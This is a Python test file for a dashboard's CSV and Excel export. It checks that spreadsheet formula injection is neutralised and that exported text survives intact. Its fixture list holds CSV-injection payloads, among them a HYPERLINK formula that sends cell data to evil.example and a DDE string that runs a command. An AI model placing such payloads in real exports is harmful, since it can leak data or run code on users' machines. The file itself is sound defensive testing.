"""The app's downloads open safely in Excel: CSV (UTF-8 with BOM) cells never begin like a
formula, .xlsx cells are text or numbers, never formulas, and the text is intact."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from kizuna.dashboard import components as ui
from kizuna.dashboard.pages.data_tables.model import excel_bytes, table_frame
from kizuna.dashboard.store_source import DataSource
from kizuna.graph.cells import FORMULA_CHARS, unescape_csv_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    '=IMPORTXML("http://evil.example/x","//a")',
    "\t=1+1",
    "\r=1+1",
    "TAMA\r=HYPERLINK(1)",
]


@pytest.fixture(scope="module")
def hostile_data(tiny_bundle):
    bundle = tiny_bundle()
    nodes = bundle.nodes.copy()
    names = nodes["name"].to_numpy(dtype=object).copy()
    names[: len(HOSTILE)] = HOSTILE
    nodes["name"] = names
    hostile = bundle.with_frames(nodes=nodes)
    return DataSource(lambda: hostile).current().data


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", ["organizations", "ties", "clusters"])
def test_csv_download_is_neutralised_and_exact(hostile_data, table):
    frame = table_frame(hostile_data, table)
    payload = ui.csv_download(frame, f"{table}.csv")
    assert payload["content"].startswith("\ufeff")  # Excel in Japan reads UTF-8 right
    rows = list(csv.reader(io.StringIO(payload["content"][1:], newline="")))
    assert rows[0] == [str(c) for c in frame.columns]
    for row in rows[1:]:
        for cell in row:
            assert not cell or is_number(cell) or cell[0] not in FORMULA_CHARS, cell
    if table == "organizations":
        names = [unescape_csv_cell(r[rows[0].index("name")]) for r in rows[1:]]
        assert names[: len(HOSTILE)] == HOSTILE


def test_excel_download_has_no_formula_and_keeps_numbers(hostile_data):
    frame = table_frame(hostile_data, "organizations")
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame, "organizations")))
    sheet = book.worksheets[0]
    header = [c.value for c in sheet[1]]
    assert header == [str(c) for c in frame.columns]
    rows = list(sheet.iter_rows(min_row=2))
    for row in rows:
        assert all(c.data_type != "f" for c in row)
    names = [r[header.index("name")].value for r in rows]
    assert names[: len(HOSTILE) - 2] == HOSTILE[:-2]
    assert names[len(HOSTILE) - 2] in ("\r=1+1", "_x000D_=1+1")  # Excel's escape of a CR
    lat = [r[header.index("lat")] for r in rows if r[header.index("lat")].value is not None]
    assert lat and all(c.data_type == "n" for c in lat)
    degree = [r[header.index("degree")] for r in rows]
    assert all(c.data_type == "n" for c in degree)
